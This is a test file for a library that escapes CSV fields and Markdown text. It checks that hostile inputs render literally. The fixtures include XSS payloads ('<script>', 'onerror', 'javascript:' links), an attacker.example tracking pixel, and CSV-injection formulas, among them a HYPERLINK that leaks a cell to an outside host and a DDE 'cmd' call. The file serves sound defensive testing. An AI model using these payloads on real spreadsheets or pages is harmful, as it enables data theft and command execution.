import { expect } from 'chai';
import MarkdownIt from 'markdown-it';
import { parseCsv } from '../lib/coverage/parse-csv.js';
import { csvField, formatCsv, formatMarkdownTable, markdownCell, markdownCode, markdownColorCell, markdownLines, markdownMessage, markdownMessageCell, markdownText } from '../lib/table-text.js';

// Hostile texts as they come in campaign names, layer names and descriptions, comments, file names.
const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '![x](http://attacker.example/pixel.png)',
  '<javascript:alert(1)>',
  '<https://attacker.example>',
  '[x]: javascript:alert(1)',
  '# heading',
  '> quote',
  '- item',
  '+ item',
  '1. item',
  '2) item',
  '=====',
  '---',
  '***',
  '    indented code',
  '```',
  '~~~',
  '`code`',
  '*em* **strong** _em_',
  '~~struck~~',
  'a | b',
  '&lt;script&gt; &amp; &#60;',
  '<!-- comment -->',
  'title #',
  'line one\n\n<b>two</b>\n  - three',
  'back\\slash\\',
  '$x^2$',
];

// CommonMark with GitHub's tables, raw HTML passed through as GitHub's renderer does before its sanitizer: what the
// text would become if the escaping missed something.
const markdown = new MarkdownIt({ html: true });
const renderedText = (source: string): string =>
  markdown
    .render(source)
    .replace(/<\/?(?:p|h1|blockquote|table|thead|tbody|tr|th|td|br)>\n?/g, '')
    .replace(/<br>/g, '\n')
    .trim();
const unescapeHtml = (html: string): string =>
  html.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');

describe('csvField and formatCsv', () => {
  // OWASP's examples and the issue's, each written as text a spreadsheet will not run.
  const formulas = ['=HYPERLINK("http://x.example/?leak="&B2,"open")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '\t=1+1', '\r=1+1', '=1+1'];
  for (const formula of formulas) {
    it(`prefixes a single quote to ${JSON.stringify(formula)}, and a CSV reader gets it back with the quote`, () => {
      const csv = formatCsv(['comment'], [[formula]]);
      const [, row] = parseCsv(csv).rows.map((r) => r.cells);
      expect(row).to.deep.equal([`'${formula}`]);
    });
  }

  it('leaves other text and numbers (negative ones too) as they are', () => {
    expect(['T1059', 'a=b', ' =x', "'=x", -5, 0.25, ''].map(csvField)).to.deep.equal(['T1059', 'a=b', ' =x', "'=x", '-5', '0.25', '']);
  });

  it('still quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvField('a, "b"\nc')).to.equal('"a, ""b""\nc"');
    expect(csvField('=a,b')).to.equal(`"'=a,b"`);
  });
});

describe('Markdown escaping', () => {
  for (const hostile of HOSTILE) {
    it(`markdownText shows ${JSON.stringify(hostile)} literally, as one line of text`, () => {
      const html = markdown.render(`# ${markdownText(hostile)}`);
      expect(html.startsWith('<h1>') && html.endsWith('</h1>\n')).to.equal(true);
      expect(unescapeHtml(renderedText(`# ${markdownText(hostile)}`))).to.equal(hostile.split('\n').map((line) => line.trim()).filter(Boolean).join(' '));
    });

    it(`markdownLines shows ${JSON.stringify(hostile)} literally in a quote, line by line`, () => {
      const source = markdownLines(hostile).map((line) => `> ${line}`.trimEnd()).join('\n>\n');
      const html = markdown.render(source);
      expect(html).to.not.match(/<(?!\/?(?:p|blockquote)>)[a-z!/]/i);
      const paragraphs = [...html.matchAll(/<p>([^]*?)<\/p>/g)].map((m) => unescapeHtml(m[1]!));
      expect(paragraphs).to.deep.equal(hostile.split('\n').map((line) => line.trim()).filter(Boolean));
    });

    it(`markdownCell keeps ${JSON.stringify(hostile)} in its table cell, literally`, () => {
      const table = formatMarkdownTable(['a', 'b'], [[hostile, 'next']]);
      const html = markdown.render(table);
      const cells = [...html.matchAll(/<td>([^]*?)<\/td>/g)].map((m) => m[1]!);
      expect(cells).to.have.length(2);
      expect(cells[1]).to.equal('next');
      expect(cells[0]).to.not.match(/<(?!br>)[a-z!/]/i);
      expect(unescapeHtml(cells[0]!.replace(/<br>/g, '\n'))).to.equal(hostile.split('\n').map((line) => line.trim()).join('\n').trim());
    });
  }

  it('markdownColorCell writes a colour as it is (#f00a), anything else in its cell as markdownCell does', () => {
    for (const color of ['#f00', '#F00A', '#ce232e', '#ce232e80']) {
      expect(markdownColorCell(color)).to.equal(color);
      expect(markdown.render(formatMarkdownTable(['color'], [[color]], '', [], [0]))).to.contain(`<td>${color}</td>`);
    }
    for (const hostile of [...HOSTILE, '#f00 | x', '# heading', '#f00\n#0f0']) expect(markdownColorCell(hostile), hostile).to.equal(markdownCell(hostile));
  });

  it('lets no link through but the addresses the text shows, which a renderer with autolinks may link', () => {
    const linkify = new MarkdownIt({ html: true, linkify: true });
    for (const hostile of HOSTILE) {
      const html = linkify.render(`${markdownLines(hostile).join('\n\n')}\n\n${formatMarkdownTable(['a'], [[hostile]])}`);
      for (const [, href, shown] of html.matchAll(/<a href="([^"]*)">([^<]*)<\/a>/g)) expect(href).to.equal(shown);
      expect(html).to.not.match(/<a (?!href="https?:)|<img/);
    }
  });

  it('markdownCode fences a code span with more backticks than the text holds', () => {
    for (const code of ['a`b', '``x``', 'src/`name`.yaml', ' x ']) {
      expect(unescapeHtml(markdown.renderInline(markdownCode(code)))).to.equal(`<code>${code}</code>`);
    }
  });

  // A message of ours quoting input (a layer's name, a file, a platform) and writing a command as a code span, as the
  // upgrade report's notes, gap's notes and export's "not drawn" lines do.
  const message = (quoted: string): string => `layer "${quoted}": run \`attack-layers upgrade\` to bring \`versions.attack\` up to date`;
  for (const hostile of HOSTILE.filter((text) => !text.includes('`'))) {
    it(`markdownMessage writes a message's code spans as code, and ${JSON.stringify(hostile)} it quotes literally`, () => {
      const html = markdown.render(`# ${markdownMessage(message(hostile))}`);
      expect(html.startsWith('<h1>') && html.endsWith('</h1>\n')).to.equal(true);
      expect(html).to.not.match(/<(?!\/?(?:h1|code)>)[a-z!/]/i);
      // Line breaks become spaces and runs of spaces one, as in markdownText.
      const shown = message(hostile).split('\n').map((line) => line.trim()).filter(Boolean).join(' ').replace(/[ \t]+/g, ' ');
      expect(unescapeHtml(renderedText(`# ${markdownMessage(message(hostile))}`))).to.equal(shown.replace(/`([^`]+)`/g, '<code>$1</code>'));
    });

    it(`markdownMessageCell keeps a message quoting ${JSON.stringify(hostile)} in its table cell, code spans as code`, () => {
      const html = markdown.render(`| a | b |\n|---|---|\n| ${markdownMessageCell(message(hostile))} | next |`);
      const cells = [...html.matchAll(/<td>([^]*?)<\/td>/g)].map((m) => m[1]!);
      expect(cells).to.have.length(2);
      expect(cells[1]).to.equal('next');
      expect(cells[0]).to.not.match(/<(?!br>|\/?code>)[a-z!/]/i);
      const shown = message(hostile).split('\n').map((line) => line.trim().replace(/[ \t]+/g, ' ')).join('\n');
      expect(unescapeHtml(cells[0]!.replace(/<br>/g, '\n'))).to.equal(shown.replace(/`([^`]+)`/g, '<code>$1</code>'));
    });
  }

  it('markdownMessage reads a backtick without its pair, and input with backticks, safely: code at most, never markup', () => {
    for (const hostile of HOSTILE) {
      const html = markdown.render(`# ${markdownMessage(`comment "${hostile}": \`a\` and a lone \` tick`)}`);
      expect(html.startsWith('<h1>') && html.endsWith('</h1>\n')).to.equal(true);
      expect(html).to.not.match(/<(?!\/?(?:h1|code)>)[a-z!/]/i);
    }
    // Backticks pair from the left, as in CommonMark; the one left over is a literal backtick.
    expect(unescapeHtml(markdown.renderInline(markdownMessage('a `code` and a lone ` tick')))).to.equal('a <code>code</code> and a lone ` tick');
    // A code span holding a pipe stays in its table cell.
    const html = markdown.render(`| a | b |\n|---|---|\n| ${markdownMessageCell('split on `a|b` here')} | next |`);
    expect([...html.matchAll(/<td>([^]*?)<\/td>/g)].map((m) => m[1]!)).to.deep.equal(['split on <code>a|b</code> here', 'next']);
  });

  it('is linear on long runs of spaces and line breaks (a quadratic regex took seconds on 200,000 spaces)', () => {
    // Not a timing: the result must be right on an input a quadratic scan could not finish within mocha's timeout.
    const spaces = ' '.repeat(200_000);
    expect(markdownCell(`a${spaces}b${spaces}\n${spaces}c`)).to.equal('a b<br>c');
    expect(markdownCell(`${'\n'.repeat(100_000)}x${'\n'.repeat(100_000)}`)).to.equal('x');
    expect(markdownText(`x${spaces}y`)).to.equal('x y');
  });
});
